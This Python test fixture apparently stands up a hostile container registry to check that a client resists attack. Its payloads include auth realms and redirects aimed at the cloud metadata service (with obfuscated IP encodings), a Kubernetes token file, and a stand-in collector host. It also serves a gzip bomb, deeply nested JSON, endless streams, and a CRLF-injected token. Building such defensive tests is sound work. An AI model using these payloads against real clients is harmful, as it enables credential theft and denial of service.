"""A registry in an attacker's hands: it is after a login, the metadata service, or the operator's time.

One HTTPS server on this machine's own address; each of its names misbehaves in a way of its own.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import ipaddress
import json
import socket
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from pathlib import Path

from aiohttp import web

from dev.certificates import Authority
from dev.ports import free_port
from dev.scratch import scratch_folder

METADATA = "169.254.169.254"
#: Another host of the attacker's, which has nothing to do with his registries.
COLLECTOR = "collector.elsewhere.example"
_BOMB = gzip.compress(b"0" * (32 << 20), 9) * 8  # members one after the other are one stream
_DEEP = b'{"token":' + b"[" * 400_000

Misdeed = Callable[["Evil", web.Request], Awaitable[web.StreamResponse]]


def own_address() -> str:
    """Return an address of this machine that is neither loopback nor link-local, or "" where it has none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
        probe.connect(("198.51.100.1", 9))  # nothing is sent: this only chooses the interface
        address: str = probe.getsockname()[0]
        told = ipaddress.ip_address(address)
        return "" if told.is_loopback or told.is_link_local else address
    return ""


def _challenge(realm: str, more: str = "") -> web.Response:
    value = f'Bearer realm="{realm}",service="evil"{more}'
    return web.Response(status=401, headers={"WWW-Authenticate": value})


def _sends_to(realm: str) -> Misdeed:
    async def answer(evil: Evil, _: web.Request) -> web.StreamResponse:
        return _challenge(realm.replace("PORT", str(evil.port)).replace("LISTENER", str(evil.listener)))

    return answer


def _token(body: bytes, **headers: str) -> Misdeed:
    async def answer(_: Evil, request: web.Request) -> web.StreamResponse:
        if request.path.startswith("/v2/"):
            return _challenge(f"https://{request.host}/token")
        return web.Response(body=body, headers=headers)

    return answer


def _flow(part: bytes, pause: float) -> Misdeed:
    async def answer(_: Evil, request: web.Request) -> web.StreamResponse:
        if request.path.startswith("/v2/"):
            return _challenge(f"https://{request.host}/token")
        response = web.StreamResponse()
        await response.prepare(request)
        with contextlib.suppress(ConnectionError):
            while request.transport is not None and not request.transport.is_closing():
                await response.write(part)
                await asyncio.sleep(pause)
        return response

    return answer


def _redirects(status: int, to: str, *, token: bool) -> Misdeed:
    async def answer(evil: Evil, request: web.Request) -> web.StreamResponse:
        if token and request.path.startswith("/v2/"):
            return _challenge(f"https://{request.host}/token")
        return web.Response(status=status, headers={"Location": to.replace("PORT", str(evil.port))})

    return answer


async def _long_challenge(_evil: Evil, _: web.Request) -> web.StreamResponse:
    return _challenge("x", "," + ",".join(f'a{number}="{"x" * 20}"' for number in range(200)))


#: What each of its names does.
MISDEEDS: Mapping[str, Misdeed] = {
    "realm-metadata": _sends_to(f"https://{METADATA}/latest/api/token"),
    "realm-plain": _sends_to(f"http://{METADATA}/latest/meta-data/"),
    "realm-decimal": _sends_to("https://2852039166/token"),
    "realm-hex": _sends_to("https://0xa9fea9fe/token"),
    "realm-octal": _sends_to("https://0251.0376.0251.0376/token"),
    "realm-mapped": _sends_to("https://[::ffff:a9fe:a9fe]/token"),
    "realm-loopback": _sends_to("https://127.0.0.1:LISTENER/token"),
    "realm-name": _sends_to("https://inner.realm-name.evil.example:PORT/token"),
    "realm-elsewhere": _sends_to(f"https://{COLLECTOR}:PORT/token"),
    "realm-user": _sends_to(f"https://realm-user.evil.example@{COLLECTOR}:PORT/token"),
    "realm-file": _sends_to("file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
    "token-redirect": _redirects(307, f"http://{METADATA}/latest/meta-data/", token=True),
    "token-redirect-elsewhere": _redirects(307, f"https://{COLLECTOR}:PORT/", token=True),
    "manifest-redirect": _redirects(302, f"http://{METADATA}/latest/meta-data/", token=False),
    "deep": _token(_DEEP),
    "bomb": _token(_BOMB, **{"Content-Encoding": "gzip"}),
    "endless": _flow(b" " * (1 << 20), 0.01),
    "drip": _flow(b" ", 0.5),
    "challenge": _long_challenge,
    "not-text": _token(b"\xff\xfe" * 5000),
    "token-of-lines": _token(json.dumps({"token": "a\r\nX-Evil: 1"}).encode()),
}


class Evil:
    """The server, and what came to it.

    Attributes:
        port: of HTTPS.
        ca: PEM of the CA that vouches for all of its names.
        names: what the names lead to.
        asked: name to the number of requests.
        logins: name to the number of requests that carried a login.
    """

    def __init__(self, address: str, port: int, listener: int, ca: str) -> None:
        self.address, self.port, self.listener, self.ca = address, port, listener, ca
        hosts = [f"{name}.evil.example" for name in MISDEEDS]
        self.names = dict.fromkeys((*hosts, COLLECTOR), address)
        # A name of the attacker's own domain, which leads to where only the operator's machine gets.
        self.names |= {"inner.realm-name.evil.example": METADATA, "metadata.evil.example": METADATA}
        self.names |= {"loopback.evil.example": "127.0.0.1", "mapped.evil.example": f"::ffff:{METADATA}"}
        self.asked: dict[str, int] = {}
        self.logins: dict[str, int] = {}

    async def answer(self, request: web.Request) -> web.StreamResponse:
        """Misbehave as the name asks for."""
        name = request.host.partition(":")[0]
        self.asked[name] = self.asked.get(name, 0) + 1
        form = await request.post() if request.method == "POST" else {}
        if "Authorization" in request.headers or "password" in form:
            self.logins[name] = self.logins.get(name, 0) + 1
        misdeed = MISDEEDS.get(name.removesuffix(".evil.example"))
        return await misdeed(self, request) if misdeed else web.json_response({"token": "thanks"})


@contextlib.asynccontextmanager
async def evil_registry(address: str, listener: int) -> AsyncIterator[Evil]:
    """Run it.

    Args:
        address: to listen at; what `own_address` tells.
        listener: port on loopback that nobody may reach.
    """
    authority = Authority("evil-ca")
    evil = Evil(address, free_port(), listener, authority.certificate)
    with scratch_folder("evil") as folder:
        authority.server("evil", tuple(evil.names)).write(folder, "evil")
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        context.load_cert_chain(Path(folder) / "evil.crt", Path(folder) / "evil.key")
        application = web.Application(client_max_size=1 << 20)
        application.router.add_route("*", "/{tail:.*}", evil.answer)
        runner = web.AppRunner(application, shutdown_timeout=0.5)
        await runner.setup()
        try:
            await web.TCPSite(runner, address, evil.port, ssl_context=context).start()
            yield evil
        finally:
            await runner.cleanup()
